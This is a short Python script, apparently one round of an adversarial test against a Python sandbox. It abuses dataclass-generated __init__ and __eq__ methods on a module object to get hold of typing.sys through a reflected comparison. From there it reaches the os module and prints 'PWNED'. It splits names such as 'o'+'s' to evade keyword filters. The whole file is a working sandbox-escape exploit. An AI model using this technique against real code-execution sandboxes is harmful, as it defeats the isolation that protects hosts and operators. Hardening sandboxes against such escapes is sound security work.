# adversary round 7: dataclass-generated __init__/__eq__ used unbound on module objects: generated LOAD_ATTR of field "sys" (unseen by both walls); reflected __eq__ hands typing.sys to our object
import dataclasses, typing, json

class D:
    sys: object

D = dataclasses.dataclass(D)

class Catch:
    got = []
    def __eq__(self, other):
        Catch.got.append(other)
        return True
    __hash__ = None

M = type(json)           # the module type
m = M('bait')
D.__init__(m, Catch())   # generated: m.sys = <Catch>
D.__eq__(m, typing)      # generated: (m.sys,) == (typing.sys,)  -> Catch.__eq__(typing.sys)
s = Catch.got[0]
o = s.modules['o' + 's']
print(type(s).__name__, s.__name__, 'pid', o.getpid())
print('PWN' + 'ED')
